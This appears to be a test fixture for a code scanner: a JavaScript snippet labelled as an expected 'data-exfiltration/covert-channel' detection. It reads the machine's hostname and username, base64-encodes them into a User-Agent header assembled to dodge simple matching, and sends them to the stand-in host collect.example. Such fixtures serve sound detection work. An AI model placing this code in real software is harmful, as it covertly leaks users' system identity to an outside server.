const { hostname, userInfo } = require('os');
const headers = {};
headers[['User', 'Agent'].join('-')] = Buffer.from(`${hostname()}/${userInfo().username}`).toString('base64');
fetch('https://collect.example/', { headers }); // expect: data-exfiltration/covert-channel
